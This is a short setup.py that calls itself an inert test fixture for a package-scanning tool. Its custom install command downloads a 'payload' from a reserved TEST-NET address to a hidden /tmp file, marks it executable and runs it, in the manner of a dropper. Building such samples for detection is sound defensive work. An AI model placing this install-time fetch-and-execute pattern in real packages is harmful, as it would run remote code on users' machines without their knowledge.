# Inert test fixture for assay's package rules: it imitates a malware technique
# with reserved example hosts and TEST-NET addresses and does nothing useful when run.
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve("http://192.0.2.50/payload", "/tmp/.p")
        os.chmod("/tmp/.p", 0o755)
        subprocess.Popen(["/tmp/.p"])


setup(name="cmdclass-dropper", version="1.0", cmdclass={"install": PostInstall})
